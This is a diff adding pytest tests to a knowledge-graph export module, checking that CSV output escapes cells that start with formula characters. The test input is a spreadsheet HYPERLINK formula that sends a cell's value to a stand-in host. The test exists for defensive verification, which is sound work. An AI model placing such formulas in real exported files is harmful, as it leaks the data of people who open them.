@@ -16,8 +16,10 @@ from graph.examples import ARTICLE, DENIED, ENGLISH, ENGLISH_STATEMENTS, MEETING
 
 from kg import export
 from kg.errors import StoreError
+from kg.export.cells import neutral_table
 from kg.graph import Store
 from kg.graph.validate import validate
+from kg.model import Evidence
 from kg.vocab import KG
 
 
@@ -68,6 +70,27 @@ def test_csv(store: Store, tmp_path: Path) -> None:
     empty = tmp_path / "empty.csv"
     export.write(Store.memory(), empty)
     assert empty.read_text().startswith("relation,subject,")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\uff1d", "\r"])
+def test_no_cell_of_a_csv_is_a_formula(start: str, tmp_path: Path) -> None:
+    store, text = Store.memory(), start + 'HYPERLINK("http://a.example/?"&A1,"open")'
+    said = replace(VISIT, evidence=(Evidence(text, 0, len(text)),))
+    store.add(replace(ARTICLE, headline=text, publisher=text), [said])
+    export.write(store, tmp_path / "x.csv")
+    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["sentence"] == f"'{text}" and row["headline"].startswith("'") and row["start"] == "0"
+    assert not [value for value in row.values() if value.strip()[:1] in ("=", "+", "-", "@", "\uff1d")]
+    export.write(store, tmp_path / "x.jsonl")
+    (line,) = (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()
+    assert json.loads(line)["evidence"]["sentence"] == text
+
+
+def test_a_table_without_formulas_stays_as_it_is() -> None:
+    plain = b'a,b\r\n"x, y",-12.5\r\n,+3e4\r\n'
+    assert neutral_table(plain) == plain
+    assert neutral_table(b'a\r\n"=1+1"\r\n') == b"a\r\n'=1+1\r\n"
 
 
 def test_networkx(store: Store) -> None:
